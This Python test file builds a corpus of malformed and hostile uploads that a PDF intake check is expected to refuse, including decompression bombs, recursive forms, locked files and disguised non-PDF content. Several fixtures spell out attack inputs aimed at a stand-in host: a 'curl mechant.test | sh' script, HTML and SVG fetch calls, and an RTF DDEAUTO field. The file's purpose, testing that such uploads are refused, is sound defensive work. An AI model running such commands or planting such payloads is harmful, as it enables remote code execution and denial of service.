"""What is sent as a PDF and must not be taken."""

import zlib

from core.files import refusals
from tests.core.files.corpus.making import wide_jpeg, zeros
from tests.core.files.corpus.making_pdf import DRAWN, encrypted, pdf, stream, with_picture
from tests.core.files.corpus.shelf import PDFS, sent


@sent(PDFS, refusals.Locked)
def under_a_password() -> bytes:
    return encrypted("secret", "maitre")


@sent(PDFS, refusals.Locked)
def under_rights_only() -> bytes:
    return encrypted("", "maitre")


@sent(PDFS, refusals.Locked)
def locked_in_a_way_nobody_knows() -> bytes:
    return pdf(trailer="/Encrypt << /Filter /Mechant /V 9 /R 9 >> /ID [(a) (a)]")


@sent(PDFS, refusals.Broken)
def cut_off() -> bytes:
    return pdf()[:120]


@sent(PDFS, refusals.Broken)
def header_alone() -> bytes:
    return b"%PDF-1.7\n"


@sent(PDFS, refusals.Broken)
def no_page() -> bytes:
    return pdf(kids="[]", count=0)


@sent(PDFS, refusals.Broken)
def tree_of_pages_that_is_a_ring() -> bytes:
    return pdf(kids="[2 0 R]")


@sent(PDFS, refusals.TooManyPages)
def ten_thousand_pages() -> bytes:
    kids = " ".join(f"{number} 0 R" for number in range(6, 10_006))
    return pdf(
        "",
        "",
        *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << >> >>"] * 10_000,
        kids=f"[{kids}]",
        count=10_000,
    )


@sent(PDFS, refusals.TooManyPages)
def one_page_too_many() -> bytes:
    return pdf(kids="[" + "3 0 R " * 21 + "]", count=21)


@sent(PDFS, refusals.Broken)
def page_the_size_of_a_town() -> bytes:
    return pdf(box="[0 0 9999999 9999999]")


@sent(PDFS, refusals.Broken)
def page_of_no_size() -> bytes:
    return pdf(box="[0 0 0 0]")


@sent(PDFS, refusals.Broken)
def three_hundred_megabytes_in_a_drawing() -> bytes:
    return pdf(content=stream(zeros(300), "/Filter /FlateDecode"))


@sent(PDFS, refusals.Broken)
def packed_twice() -> bytes:
    return pdf(content=stream(zlib.compress(zeros(300)), "/Filter [/FlateDecode /FlateDecode]"))


@sent(PDFS, refusals.TooMuch)
def many_drawings_that_swell() -> bytes:
    return pdf(
        "", "", *[stream(zeros(60), "/Filter /FlateDecode")] * 4,
        resources="/Font << /F1 5 0 R >>",
    ).replace(b"/Contents 4 0 R", b"/Contents [6 0 R 7 0 R 8 0 R 9 0 R]")  # fmt: skip


@sent(PDFS, refusals.Broken)
def objects_that_swell() -> bytes:
    data = zeros(300)
    return (
        b"%PDF-1.5\n1 0 obj\n"
        + stream(data, "/Type /XRef /Size 8 /Root 1 0 R /W [1 4 2] /Filter /FlateDecode")
        + (b"\nendobj\nstartxref\n9\n%%EOF\n")
    )


@sent(PDFS, refusals.Broken)
def packed_fifty_times() -> bytes:
    return pdf(content=stream(b"x", f"/Filter [{'/FlateDecode ' * 50}]"))


@sent(PDFS, refusals.Broken)
def packed_in_an_unknown_way() -> bytes:
    return pdf(content=stream(DRAWN, "/Filter [/Crypt /FlateDecode]"))


@sent(PDFS, refusals.TooMuch)
def forms_in_forms_in_forms() -> bytes:
    forms = [
        stream(b"/X Do", f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {at} 0 R >> >>")
        for at in range(7, 207)
    ]
    return pdf("", "", *forms, resources="/XObject << /X 6 0 R >>")


@sent(PDFS, refusals.TooMuch)
def fifty_thousand_typefaces() -> bytes:
    fonts = " ".join(f"/A{at} << /Type /Font >>" for at in range(50_000))
    return pdf(resources=f"/Font << {fonts} >>")


@sent(PDFS, refusals.UnreadablePicture)
def picture_of_a_broken_kind() -> bytes:
    return with_picture(
        "/Width 9 /Height 9 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode /DecodeParms << /JBIG2Globals 5 0 R >>",
        b"\x00" * 50,
    )


@sent(PDFS, refusals.UnreadablePicture)
def photograph_that_is_none() -> bytes:
    return with_picture(
        "/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode", b"\xff\xd8mechant.test"
    )


@sent(PDFS, refusals.UnreadablePicture)
def photograph_of_waves_that_is_none() -> bytes:
    return with_picture("/Width 9 /Height 9 /Filter /JPXDecode", b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\xff" * 80)


@sent(PDFS, refusals.LargePicture)
def picture_the_size_of_a_field() -> bytes:
    return with_picture(
        "/Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode", zeros(1)
    )


@sent(PDFS, refusals.LargePicture)
def photograph_larger_than_it_says() -> bytes:
    return with_picture(
        "/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode", wide_jpeg()
    )


@sent(PDFS, refusals.Broken)
def picture_in_the_drawing_packed_in_an_unknown_way() -> bytes:
    return pdf(content=stream(b"BI /W 9 /H 9 /CS /G /BPC 8 /F [/Crypt /JBIG2Decode] ID xxx EI " + DRAWN))


@sent(PDFS, refusals.WrongKind)
def web_page_before_the_header() -> bytes:
    return b"<html><script src='http://mechant.test'></script>\n" + pdf()


@sent(PDFS, refusals.WrongKind)
def picture_before_the_header() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00," + pdf()


@sent(PDFS, refusals.WrongKind)
def nothing() -> bytes:
    return b""


@sent(PDFS, refusals.WrongKind)
def web_page() -> bytes:
    return b"<!DOCTYPE html><html><script>fetch('//mechant.test')</script></html>"


@sent(PDFS, refusals.WrongKind)
def drawing_for_the_web() -> bytes:
    return b"<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(\"//mechant.test\")'/>"


@sent(PDFS, refusals.WrongKind)
def windows_program() -> bytes:
    return b"MZ\x90\x00" + bytes(200) + b"PE\x00\x00 mechant.test"


@sent(PDFS, refusals.WrongKind)
def unix_program() -> bytes:
    return b"\x7fELF" + bytes(200)


@sent(PDFS, refusals.WrongKind)
def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl mechant.test | sh\n"


@sent(PDFS, refusals.WrongKind)
def rich_text() -> bytes:
    return b"{\\rtf1 {\\field{\\*\\fldinst DDEAUTO mechant.test}}}"


@sent(PDFS, refusals.WrongKind)
def word_of_old() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "WordDocument".encode("utf-16-le")


@sent(PDFS, refusals.WrongKind)
def postscript() -> bytes:
    return b"%!PS-Adobe-3.0\n(mechant.test) run\n"


@sent(PDFS, refusals.WrongKind)
def text_of_no_format() -> bytes:
    return b"Mon parcours : dix ans en soudure."


@sent(PDFS, refusals.TooHeavy)
def over_five_megabytes() -> bytes:
    return pdf() + bytes(5 * 1024 * 1024)
